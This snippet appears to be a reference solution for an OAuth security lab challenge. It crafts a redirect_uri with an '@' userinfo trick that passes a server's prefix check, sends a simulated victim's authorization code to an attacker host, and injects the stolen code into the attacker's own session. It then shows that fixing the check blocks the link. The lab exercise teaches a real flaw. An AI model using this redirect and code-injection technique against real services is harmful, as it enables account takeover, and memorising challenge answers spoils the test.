# A reference solution for challenge 18.redirect_prefix. Your own browser starts a login at the client: its
# authorization request (PKCE challenge, state) is one the client will finish in YOUR session.
me = httpx.Client(trust_env=False)
request = query_of(me.get(f"{lab.flow.client.url}/login").headers["location"])
# Prefix matching: 'http://client:port@attacker:port/steal' starts with the client's origin, and goes to the attacker.
request["redirect_uri"] = lab.flow.client.origin + "@" + lab.flow.attacker.url.removeprefix("http://") + "/steal"
link = f"{lab.flow.as_.url}/authorize?{urlencode(request)}"
lab.flow.victim.visit(link)                                   # alice clicks the link: her code lands on your site
stolen = lab.flow.attacker.received[-1].params["code"]
print(me.get(f"{lab.flow.client.url}/callback",               # the code injected into your own session
             params={"code": stolen, "state": request.get("state", ""), "iss": lab.flow.as_.issuer}).json())
lab.flow.disable("redirect_prefix")
print(lab.flow.victim.visit(link)[-1])                        # the same link: 400, not registered
challenge.check()
